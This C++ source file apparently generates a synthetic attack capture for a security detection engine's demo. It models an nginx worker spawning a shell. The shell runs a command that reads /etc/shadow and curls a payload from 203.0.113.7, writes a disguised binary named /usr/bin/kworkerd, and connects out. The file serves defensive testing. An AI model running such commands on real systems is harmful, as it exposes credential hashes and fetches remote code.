// The synthetic attack scenario of the demo (see demo_capture.h). Timestamps
// are fixed so the demo prints the same alerts on every machine.
#include "engine/cli/demo_capture.h"

#include <stdexcept>

#include "engine/sources/capture_builder.h"

namespace eg::cli {
namespace {

constexpr uint64_t kStart = 1764583200000000000ULL;  // 2025-12-01T10:00:00Z
constexpr int64_t kAtFdCwd = -100;
constexpr uint32_t kOpenRead = 1u << 0, kOpenWrite = 1u << 1, kOpenCreate = 1u << 2;

uint64_t at_ms(uint64_t ms) { return kStart + ms * 1000000ULL; }

ThreadSnapshot process(int64_t pid, int64_t ppid, std::string comm, std::string exepath,
                       std::vector<std::string> args, std::string cwd, uint32_t uid) {
  ThreadSnapshot t;
  t.tid = t.pid = pid;
  t.ptid = ppid;
  t.exe = comm;
  t.comm = std::move(comm);
  t.exepath = std::move(exepath);
  t.args = std::move(args);
  t.cwd = std::move(cwd);
  t.uid = t.gid = uid;
  return t;
}

void add_process_tree(CaptureBuilder& b) {
  b.add_user(0, 0, "root", "/root", "/bin/bash");
  b.add_user(33, 33, "www-data", "/var/www", "/usr/sbin/nologin");
  b.add_group(0, "root");
  b.add_group(33, "www-data");
  b.add_thread(process(1, 0, "systemd", "/usr/lib/systemd/systemd", {}, "/", 0));
  b.add_thread(process(100, 1, "nginx", "/usr/sbin/nginx", {"-g", "daemon off;"}, "/", 0));
  b.add_thread(process(101, 100, "nginx", "/usr/sbin/nginx", {"-g", "daemon off;"}, "/var/www/", 33));
}

void add_benign_activity(CaptureBuilder& b) {
  b.add("openat", 101, at_ms(10), {{"fd", 7}, {"dirfd", kAtFdCwd}, {"name", "/var/www/html/index.html"},
                                   {"flags", kOpenRead}, {"mode", 0}});
  b.add("close", 101, at_ms(11), {{"res", 0}});
}

void add_attack(CaptureBuilder& b) {
  // The worker forks a child (parent and child sides of clone), which execs a shell.
  b.add("clone", 101, at_ms(100), {{"res", 200}, {"exe", "nginx"}, {"args", ParamValue::strings({"-g", "daemon off;"})},
                                   {"tid", 101}, {"pid", 101}, {"ptid", 100}, {"cwd", "/var/www/"}, {"comm", "nginx"},
                                   {"uid", 33}, {"gid", 33}});
  b.add("clone", 200, at_ms(101), {{"res", 0}, {"exe", "nginx"}, {"args", ParamValue::strings({"-g", "daemon off;"})},
                                   {"tid", 200}, {"pid", 200}, {"ptid", 101}, {"cwd", "/var/www/"}, {"comm", "nginx"},
                                   {"uid", 33}, {"gid", 33}});
  b.add("execve", 200, at_ms(102),
        {{"res", 0}, {"exe", "/bin/sh"}, {"args", ParamValue::strings({"-c", "cat /etc/shadow; curl -s http://203.0.113.7/x"})},
         {"tid", 200}, {"pid", 200}, {"ptid", 101}, {"cwd", "/var/www/"}, {"comm", "sh"},
         {"env", ParamValue::strings({"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})}, {"uid", 33}, {"gid", 33},
         {"filename", "/bin/sh"}, {"trusted_exepath", "/usr/bin/dash"}});
  b.add("openat", 200, at_ms(110), {{"fd", 3}, {"dirfd", kAtFdCwd}, {"name", "/etc/shadow"},
                                    {"flags", kOpenRead}, {"mode", 0}});
  b.add("close", 200, at_ms(111), {{"res", 0}});
  b.add("openat", 200, at_ms(120), {{"fd", 3}, {"dirfd", kAtFdCwd}, {"name", "/usr/bin/kworkerd"},
                                    {"flags", kOpenWrite | kOpenCreate}, {"mode", 0755}});
  b.add("close", 200, at_ms(121), {{"res", 0}});
  b.add("socket", 200, at_ms(130), {{"fd", 4}, {"domain", 2}, {"type", 1}, {"proto", 0}});
  b.add("connect", 200, at_ms(131), {{"res", 0}, {"tuple", ParamValue::socktuple_inet("10.0.0.5", 40312, "203.0.113.7", 80)},
                                     {"fd", 4}, {"addr", ParamValue::sockaddr_inet("203.0.113.7", 80)}});
}

}  // namespace

bool write_demo_capture(const std::string& path, std::string& error) {
  try {
    CaptureBuilder b("edera-demo");
    add_process_tree(b);
    add_benign_activity(b);
    add_attack(b);
    return b.write_file(path, error);
  } catch (const std::exception& e) {
    error = e.what();
    return false;
  }
}

}  // namespace eg::cli
